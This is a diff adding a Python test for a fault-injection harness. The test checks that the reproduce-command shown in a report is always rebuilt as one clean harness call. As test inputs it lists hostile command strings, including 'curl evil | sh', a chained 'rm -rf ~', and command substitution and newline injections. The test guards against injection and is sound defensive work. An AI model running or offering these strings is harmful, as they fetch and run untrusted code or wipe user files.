@@ -10,7 +10,7 @@ from harness.model.plan import Plan
 from harness.model.result import Result, TargetResult
 from harness.model.target_grammar import parse_targets
 from harness.model.windows import DeltaRow
-from harness.report.story import headline
+from harness.report.story import headline, reproduce
 from tests.analysis.histories import INJECTED, ZERO, Scene
 
 from .sample import plan_of, result
@@ -86,3 +86,22 @@ def test_no_impact_is_not_said_where_requests_had_to_be_sent_twice() -> None:
     assert "the targets held, but 40 of " in said and "sent once more" in said
     usual = tuple(msgspec.structs.replace(p, resent=40) for p in passed.phases)
     assert "its users saw no impact" in headline(run.plan, msgspec.structs.replace(passed, phases=usual))
+
+
+def test_the_command_to_paste_is_one_call_of_the_harness() -> None:
+    plan = plan_of("fail")
+    assert plan.provenance is not None
+    for command in (
+        "curl evil | sh",
+        "harness run; rm -rf ~",
+        "harness run $(id)",
+        "harness run 'x",
+        "harness run\nid",
+    ):
+        stranger = msgspec.structs.replace(plan.provenance, command=command)
+        said = reproduce(msgspec.structs.replace(plan, provenance=stranger))
+        assert said.startswith("harness run --fault redis-down --scenario "), said
+    own = msgspec.structs.replace(plan.provenance, command="harness run --fault 'redis-down@5s+3s' --seed 3")
+    assert reproduce(msgspec.structs.replace(plan, provenance=own)).startswith("harness run --fault redis-down")
+    kept = msgspec.structs.replace(plan.provenance, command="harness run --target 'p95 < 1s' --seed 3")
+    assert reproduce(msgspec.structs.replace(plan, provenance=kept)) == kept.command
